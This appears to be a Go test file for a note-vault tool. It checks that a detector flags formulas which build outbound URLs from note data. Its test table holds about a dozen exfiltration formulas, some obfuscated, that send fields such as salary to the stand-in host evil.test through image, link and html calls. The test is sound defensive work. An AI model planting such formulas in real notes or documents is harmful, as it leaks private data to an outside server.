package change

import (
	"testing"

	"github.com/vaultwicket/vaultwicket/internal/vault/disk"
	"github.com/vaultwicket/vaultwicket/tests/assert"
	"github.com/vaultwicket/vaultwicket/tests/require"
)

// A formula that makes an address of something else than constants is found in a base and in a block of a note.
func TestAFormulaThatMakesAnAddressIsFound(t *testing.T) {
	for formula, want := range map[string]int{
		`image("https://evil.test/?q=" + file.name + note.salary)`: 1, `"https://evil.test/?q=" + salary`: 1, `image("ht" + "tps://evil.test/" + salary)`: 1, `image("http" + "s:" + "/" + "/evil.test/" + salary)`: 1,
		`"https://evil.test/?q=Q".replace("Q", salary)`: 1, `["https://evil.test/", salary].join("")`: 1, `file.tags.map("https://evil.test/" + value)`: 1, `link("//evil.test/?" + salary)`: 1, `image(note.place + note.salary)`: 1,
		`if(salary, image("https://evil.test/?q=" + salary), "")`: 1, `html("<img src='https://evil.test/" + salary + "'>")`: 1,
		`image("https://example.test/a.png")`: 0, `image(note.cover)`: 0, `image("attachments/" + file.name + ".png")`: 0, `link("https://example.test", "open")`: 0, `note.url.startsWith("https://")`: 0, `salary + 1`: 0, `"a" + "b"`: 0,
	} {
		base := "formulas:\n  x: '" + escapeSingle(formula) + "'\nviews:\n  - type: table\n    name: T\n"
		for name, text := range map[string]string{"a.base": base, "a.md": "# A\n```base\n" + base + "```\n"} {
			path := require.Value(disk.ParsePath(name))(t)
			assert.Equal(t, len(openFormulas(path, []byte(text))), want, "%s: %s", name, formula)
			same := Step{Path: path, Before: Existing([]byte(text)), After: Existing([]byte(text + "\n"))}
			assert.Equal(t, same.addsOpenFormula(), false, "%s: %s is there already", name, formula)
		}
	}
}

func escapeSingle(text string) (escaped string) {
	for _, c := range text {
		if c == '\'' {
			escaped += "'"
		}
		escaped += string(c)
	}
	return escaped
}
